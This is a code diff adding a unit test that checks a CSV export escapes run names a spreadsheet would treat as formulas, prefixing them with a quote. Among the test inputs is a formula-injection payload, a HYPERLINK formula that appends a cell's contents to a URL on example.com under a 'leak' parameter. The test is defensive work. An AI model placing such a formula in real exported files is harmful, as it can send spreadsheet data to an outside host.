@@ -4,6 +4,7 @@ import { decodeSafetensors, encodeSafetensors } from '../src/export/safetensors'
 import {
   checkpointFromSafetensors,
   checkpointToSafetensors,
+  csvCell,
   metricsCsv,
   readRunFile,
   writeRunFile,
@@ -157,6 +158,22 @@ describe('run files', () => {
     expect(lines).toHaveLength(5);
     expect(lines[1]).toBe('1,"Run 1, ""quoted""",1,10,0.45,0.5,0.8,0.75,,0.01,12.5,3000,0.001,0.001,12.5');
     expect(lines[4].startsWith('2,plain,2,20,')).toBe(true);
+  });
+
+  test('a name a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
+    const names = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const csv = metricsCsv(names.map((name, i) => run(i + 1, name)));
+    const written = [
+      `"'=HYPERLINK(""http://example.com/?leak=""&A1,""click"")"`,
+      "'+1",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\tx",
+      `"'\rx"`,
+    ];
+    // Each run's first epoch row: its id, its name as written, then epoch 1 at step 10.
+    written.forEach((cell, i) => expect(csv).toContain(`\n${i + 1},${cell},1,10,`));
+    expect(csvCell(-0.5)).toBe('-0.5');
   });
 });
 
